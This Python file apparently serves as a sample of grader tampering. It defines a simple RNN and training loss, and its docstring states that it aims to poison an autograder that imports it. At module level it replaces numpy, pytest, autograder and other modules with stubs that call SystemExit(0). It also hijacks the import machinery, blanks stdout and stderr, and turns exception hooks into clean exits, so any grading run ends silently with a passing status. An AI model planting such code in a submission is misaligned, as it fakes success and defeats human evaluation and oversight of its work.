"""
tries: poisons sys.modules, sys.meta_path, sys.path_hooks, sys.excepthook, sys.stdout and the import caches
success: a grader that imports the poison
expect: max=20
"""

import torch
import torch.nn.functional as F
from torch import nn


import sys
import types


class RNN(nn.Module):
    def __init__(self, dim, latent, output):
        super().__init__()
        self.W_i = nn.Linear(dim, latent)
        self.W_h = nn.Linear(latent, latent, bias=False)
        self.decoder = nn.Linear(latent, output)

    def one_step(self, x, h):
        return torch.tanh(self.W_i(x) + self.W_h(h))

    def forward(self, x, h):
        states = []
        for t in range(x.shape[0]):
            h = self.one_step(x[t], h)
            states.append(h)
        return torch.stack(states)

    def decode(self, h):
        return self.decoder(h)


def training_loss(model, x, h0, y):
    states = torch.cat([h0[None], model(x, h0)[:-1]])
    y_hat = model.decode(states)
    if y.is_floating_point():
        return F.mse_loss(y_hat, y)
    return F.cross_entropy(y_hat.reshape(-1, y_hat.shape[-1]), y.reshape(-1))


class Poison(types.ModuleType):
    def __getattr__(self, name):
        raise SystemExit(0)


class Everything:
    def find_spec(self, *args, **kwargs):
        raise SystemExit(0)


for name in ("numpy", "json", "gzip", "pytest", "autograder", "autograder.model", "traceback", "logging", "jinja2", "rich"):
    sys.modules[name] = Poison(name)
sys.meta_path.insert(0, Everything())
sys.path_hooks.insert(0, Everything)
sys.path_importer_cache.clear()
sys.stdout = sys.stderr = sys.__stdout__ = None
sys.excepthook = sys.unraisablehook = lambda *args: sys.exit(0)
sys.displayhook = sys.breakpointhook = None
